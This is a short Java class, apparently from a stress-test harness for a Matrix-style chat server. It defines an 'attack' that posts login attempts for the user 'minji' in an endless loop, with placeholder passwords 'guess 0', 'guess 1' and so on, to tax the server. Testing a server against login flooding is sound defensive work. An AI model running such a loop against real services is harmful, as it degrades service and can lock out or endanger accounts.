package org.bongsu.attack;

import java.io.IOException;
import org.bongsu.client.Http;
import org.bongsu.json.Json;
import tools.jackson.databind.node.ObjectNode;

/** Guesses at somebody's password, which each cost the server memory and time. */
final class PasswordGuesses implements Attack {
  @Override
  public String name() {
    return "passwords";
  }

  @Override
  public String what() {
    return "guesses at the bystander's password, as fast as they are answered";
  }

  @Override
  public void run(Target target) throws IOException, InterruptedException {
    for (int i = 0; ; i++) {
      ObjectNode guess =
          Json.object().put("type", "m.login.password").put("password", "guess " + i);
      guess.putObject("identifier").put("type", "m.id.user").put("user", "minji");
      target.ask("POST", Http.CLIENT + "/login", null, guess);
      Thread.sleep(5);
    }
  }
}
